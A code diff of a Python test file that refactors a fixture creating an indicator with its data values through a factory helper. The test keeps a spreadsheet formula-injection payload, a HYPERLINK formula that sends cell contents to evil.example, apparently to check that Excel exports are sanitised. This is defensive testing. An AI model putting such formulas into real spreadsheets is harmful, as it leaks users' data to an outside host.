@@ -11,19 +11,16 @@ import io
 import openpyxl
 import pytest
 
-from styra.web.indicators.models import OwnIndicator, OwnValue
 from styra.web.indicators.versions import bump_version
+from tests.web.factories import own_indicator
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")'
 
 
 @pytest.fixture
 def own_payload(kolada_sample, org_a):
-    indicator = OwnIndicator.objects.create(
-        organisation=org_a, code="E1", title=PAYLOAD, unit="%", polarity=1, goal=13
-    )
-    for year, value in [(2019, 50.0), (2020, 55.0), (2021, 58.0), (2022, 61.0)]:
-        OwnValue.objects.create(indicator=indicator, area=org_a, year=year, value=value)
+    values = {2019: 50.0, 2020: 55.0, 2021: 58.0, 2022: 61.0}
+    own_indicator(org_a, PAYLOAD, unit="%", polarity=1, goal=13, values=values)
     bump_version()
 
 
